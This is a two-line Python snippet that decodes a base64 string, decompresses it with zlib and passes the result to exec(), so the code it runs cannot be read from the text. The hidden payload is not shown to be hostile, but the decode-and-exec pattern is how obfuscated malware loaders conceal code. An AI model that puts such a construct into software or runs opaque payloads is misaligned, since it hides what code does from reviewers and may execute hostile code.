import zlib, base64
exec(zlib.decompress(base64.b64decode(b"eJzLzE3NTSxRyMsvSc0rUcgtzs9JSS1WyE1VCM9MTS/NUUjOzy0oSi0u1tTkAgCH4w5T")))
